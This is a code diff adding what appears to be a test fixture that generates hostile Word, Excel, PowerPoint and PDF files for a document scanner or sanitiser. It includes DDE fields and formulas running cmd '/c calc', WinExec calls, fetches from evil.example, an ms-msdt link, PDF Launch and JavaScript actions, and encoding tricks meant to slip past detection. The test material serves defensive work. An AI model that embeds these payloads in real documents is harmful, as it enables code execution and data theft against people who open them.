@@ -1,0 +1,216 @@
+import { makeOffice } from './office.ts'
+import { makePdf, type PdfPart, streamPart } from './pdf.ts'
+
+/** What fetches, runs or carries something, in as many writings as there are. */
+export type HostileDocument = readonly [what: string, bytes: Buffer]
+
+const latin1 = (text: string) => Buffer.from(text, 'latin1')
+
+/** The same XML as Office takes it: in either byte order, with its letters as numbers, with other quotes. */
+const writings = {
+  plainly: (xml: string) => Buffer.from(xml),
+  'in UTF-16': (xml: string) => Buffer.from(`\ufeff${xml}`, 'utf16le'),
+  'in UTF-16, the other order': (xml: string) => Buffer.from(`\ufeff${xml}`, 'utf16le').swap16(),
+  'with single quotes and spaces': (xml: string) =>
+    Buffer.from(xml.replaceAll('="', " \n=\t'").replaceAll('"', "'")),
+  'in letters as numbers': (xml: string) => Buffer.from(xml.replaceAll('External', '&#69;xterna&#x6C;')),
+} as const
+
+const relation = (type: string, target: string, mode = 'External') =>
+  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Target="${target}" TargetMode="${mode}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}"/></Relationships>`
+
+function relations(): HostileDocument[] {
+  const targets = [
+    ['attachedTemplate', 'https://evil.example/t.dotm'],
+    ['oleObject', 'file:///\\\\evil.example\\share\\x'],
+    ['frame', 'https://evil.example/f'],
+    ['subDocument', 'https://evil.example/s.docx'],
+    ['externalLinkPath', 'https://evil.example/b.xlsx'],
+    ['image', 'https://evil.example/pixel.png'],
+    ['hyperlink', 'file://evil.example/share/x.lnk'],
+    ['hyperlink', 'ms-msdt:/id PCWDiagnostic'],
+  ] as const
+  return targets.flatMap(([type, target]) =>
+    Object.entries(writings).map(
+      ([how, write]) =>
+        [
+          `a relation ${type} to ${target.slice(0, 12)} ${how}`,
+          makeOffice('docx', [
+            { name: 'word/_rels/settings.xml.rels', content: write(relation(type, target)) },
+          ]),
+        ] as const,
+    ),
+  )
+}
+
+const field = (runs: readonly string[], element = 'w:instrText') =>
+  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${runs
+    .map((run) => `<w:r><${element}>${run}</${element}></w:r>`)
+    .join('')}</w:p></w:body></w:document>`
+const word = (what: string, xml: string | Buffer): HostileDocument => [
+  `in Word, ${what}`,
+  makeOffice('docx', [{ name: 'word/header1.xml', content: xml }]),
+]
+const excel = (what: string, xml: string | Buffer, name = 'xl/worksheets/sheet1.xml'): HostileDocument => [
+  `in Excel, ${what}`,
+  makeOffice('xlsx', [{ name, content: xml }]),
+]
+const slides = (what: string, xml: string): HostileDocument => [
+  `in PowerPoint, ${what}`,
+  makeOffice('pptx', [{ name: 'ppt/slides/slide1.xml', content: xml }]),
+]
+const sheet = (inner: string) =>
+  `<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${inner}</x:worksheet>`
+const cell = (formula: string) => sheet(`<x:sheetData><x:c><x:f>${formula}</x:f></x:c></x:sheetData>`)
+
+function office(): HostileDocument[] {
+  return [
+    word('a DDE field in one run', field([' DDE cmd "/c calc" '])),
+    word('a DDEAUTO field over four runs', field([' D', 'DE', 'AU', 'TO cmd "/c calc"'])),
+    word('a DDE field in UTF-16', writings['in UTF-16'](field([' DDEAUTO cmd "/c calc"']))),
+    word('a DDE field in letters as numbers', field(['&#68;&#68;&#69; cmd "/c calc"'])),
+    word('a DDE field in CDATA', field(['<![CDATA[DDEAUTO cmd]]>'])),
+    word('a DDE field that was deleted', field([' DDE cmd '], 'w:delInstrText')),
+    word('a DDE field that QUOTE spells', field([' QUOTE 68 68 69 65 ', ' cmd '])),
+    word('a simple DDE field', '<w:p xmlns:w="u"><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>'),
+    word('a picture that is fetched', field([' INCLUDEPICTURE "https://evil.example/p.png" \\d '])),
+    word('a text that is fetched', field([' INCLUDETEXT "https://evil.example/p.docx" '])),
+    word('a button with a macro', field([' MACROBUTTON Open press here '])),
+    word('a web page put in', '<w:body xmlns:w="u"><w:altChunk/></w:body>'),
+    word('a mail merge', '<w:settings xmlns:w="u"><w:mailMerge><w:query/></w:mailMerge></w:settings>'),
+    word('a control', '<w:p xmlns:w="u"><w:control w:name="x"/></w:p>'),
+    word('an object', '<w:p xmlns:o="u"><o:OLEObject Type="Link" UpdateMode="Always"/></w:p>'),
+    word('an object under another prefix', '<w:p xmlns:zz="u"><zz:OLEObject Type="Link"/></w:p>'),
+    word('a template', '<w:settings xmlns:w="u"><w:attachedTemplate/></w:settings>'),
+    word(
+      'a picture of VML from elsewhere',
+      '<v:shape xmlns:v="u"><v:imagedata src="https://evil.example/x"/></v:shape>',
+    ),
+    word('a frame', '<w:frameset xmlns:w="u"><w:frame><w:sourceFileName/></w:frame></w:frameset>'),
+    word('XML that ends too early', '<w:p xmlns:w="u"><w:r>'),
+    word('XML with two roots', '<a/><b/>'),
+    word('XML with a prefix of nobody', '<w:p/>'),
+    word('XML in an encoding of its own', '<?xml version="1.0" encoding="utf-7"?><a/>'),
+    word('XML in letters that are none', Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e])),
+    word('a DOCTYPE in UTF-16', writings['in UTF-16']('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')),
+    word('an entity that nobody has said', '<a>&evil;</a>'),
+    excel('a DDE link', '<x:externalLink xmlns:x="u"><x:ddeLink ddeService="cmd"/></x:externalLink>'),
+    excel('an OLE link', '<x:externalLink xmlns:x="u"><x:oleLink progId="x"/></x:externalLink>'),
+    excel('another book', '<x:externalLink xmlns:x="u"><x:externalBook/></x:externalLink>'),
+    excel(
+      'a web query',
+      '<x:connections xmlns:x="u"><x:connection><x:webPr url="https://evil.example"/></x:connection></x:connections>',
+      'xl/connections.xml',
+    ),
+    excel(
+      'a database',
+      '<x:connections xmlns:x="u"><x:connection><x:dbPr/></x:connection></x:connections>',
+      'xl/connections.xml',
+    ),
+    excel('a query table', '<x:queryTable xmlns:x="u"/>', 'xl/queryTables/queryTable1.xml'),
+    excel('WEBSERVICE', cell('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)')),
+    excel('WEBSERVICE in letters as numbers', cell('&#87;EBSERVICE("https://evil.example")')),
+    excel('RTD', cell('RTD("evil.server",,"x")')),
+    excel('CALL', cell('CALL("kernel32","WinExec","JCJ","calc",0)')),
+    excel('a command', cell("cmd|'/c calc'!A1")),
+    excel('a command in CDATA', cell("<![CDATA[cmd|'/c calc'!A1]]>")),
+    excel('a command in UTF-16', writings['in UTF-16'](cell("MSEXCEL|'\\..\\cmd.exe'!A1"))),
+    excel('a picture that is fetched', cell('_xlfn.IMAGE("https://evil.example/p.png")')),
+    excel(
+      'a name that is a macro',
+      '<x:workbook xmlns:x="u"><x:definedName name="Auto_Open" xlm="1"/></x:workbook>',
+    ),
+    excel('a task pane', '<wetp:taskpane xmlns:wetp="u"/>', 'xl/webextensions/taskpane.xml'),
+    excel('a part that is no part', 'x', 'xl/evil.py'),
+    slides('a program that a click runs', '<a:hlinkClick xmlns:a="u" action="ppaction://program?x"/>'),
+    slides('a macro that a click runs', "<a:hlinkHover xmlns:a='u' action='ppaction://macro?name=x'/>"),
+    slides('an object', '<p:oleObj xmlns:p="u" progId="Package"/>'),
+  ]
+}
+
+const unseen = 'BT /F1 12 Tf (Dear bank) Tj ET'
+
+/** Objects inside a packed stream of objects, where a look at the file's bytes does not see them. */
+function packed(objects: readonly string[]): PdfPart {
+  let at = 0
+  const head = objects.map((object, index) => {
+    const entry = `${20 + index} ${at}`
+    at += object.length + 1
+    return entry
+  })
+  const first = `${head.join(' ')} `
+  const content = latin1(first + objects.join(' '))
+  return streamPart(`/Type /ObjStm /N ${objects.length} /First ${first.length}`, content)
+}
+
+function pdfs(): HostileDocument[] {
+  const kinds = [
+    'Launch',
+    'GoToR',
+    'GoToE',
+    'SubmitForm',
+    'ImportData',
+    'Rendition',
+    'Sound',
+    'Movie',
+    'Hide',
+    'Thread',
+    'ResetForm',
+    'SetOCGState',
+    'Trans',
+    'GoTo3DView',
+    'RichMediaExecute',
+    'JavaScript',
+  ]
+  const actions = kinds.flatMap((kind): HostileDocument[] => {
+    const escaped = `#${kind.charCodeAt(0).toString(16)}${kind.slice(1)}`
+    return [
+      [
+        `an action ${kind} in a stream of objects`,
+        makePdf({ parts: [packed([`<< /Type /Action /S /${kind} /F (x) >>`])] }),
+      ],
+      [
+        `an action ${kind} at opening, its name escaped`,
+        makePdf({ catalogue: '/OpenAction 5 0 R', parts: [{ dictionary: `<< /S /${escaped} >>` }] }),
+      ],
+    ]
+  })
+  const others: [string, Parameters<typeof makePdf>[0]][] = [
+    ['an action of events, empty of words', { catalogue: '/AA << /WC << /S /Named >> >>' }],
+    ['one in a stream of objects', { parts: [packed(['<< /#41A << /O << /S /URI >> >> >>'])] }],
+    [
+      'an address that opens by itself',
+      { catalogue: '/OpenAction << /S /URI /URI (https://evil.example) >>' },
+    ],
+    [
+      'a second action after an allowed one',
+      { catalogue: '/OpenAction << /S /GoTo /Next << /S /Launch >> >>' },
+    ],
+    ['one in a list of next ones', { catalogue: '/OpenAction << /S /GoTo /Next [<< /S /GoToR >>] >>' }],
+    ['a link to a file', { parts: [{ dictionary: '<< /A << /S /URI /URI (file:///etc/passwd) >> >>' }] }],
+    [
+      'a link that is a script',
+      { parts: [{ dictionary: '<< /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>' }] },
+    ],
+    ['a link in hexadecimal', { parts: [{ dictionary: '<< /A << /S /URI /URI <66696c653a2f2f78> >> >>' }] }],
+    [
+      'a file somewhere on the web',
+      { parts: [packed(['<< /Type /Filespec /FS /URL /F (https://evil.example) >>'])] },
+    ],
+    ['a stream that lies elsewhere', { parts: [streamPart('/F (https://evil.example/x)', latin1(unseen))] }],
+    ['a file in it', { parts: [packed(['<< /Type /Filespec /EF << /F 4 0 R >> >>'])] }],
+    ['a file pinned to a page', { parts: [packed(['<< /Type /Annot /Subtype /FileAttachment >>'])] }],
+    ['a portfolio', { catalogue: '/Collection << /View /D >>' }],
+    ['a form that is a program', { catalogue: '/AcroForm << /XFA 4 0 R >>' }],
+    ['a screen', { parts: [packed(['<< /Type /Annot /Subtype /Screen >>'])] }],
+    ['a film', { parts: [packed(['<< /Type /Annot /Subtype /Movie >>'])] }],
+    ['a body in three dimensions', { parts: [packed(['<< /Type /Annot /Subtype /3D >>'])] }],
+    ['scripts by name', { catalogue: '/Names << /Java#53cript << /Names [] >> >>' }],
+  ]
+  return [
+    ...actions,
+    ...others.map(([what, options]): HostileDocument => [`a PDF with ${what}`, makePdf(options)]),
+  ]
+}
+
+export const hostileDocuments: readonly HostileDocument[] = [...relations(), ...office(), ...pdfs()]
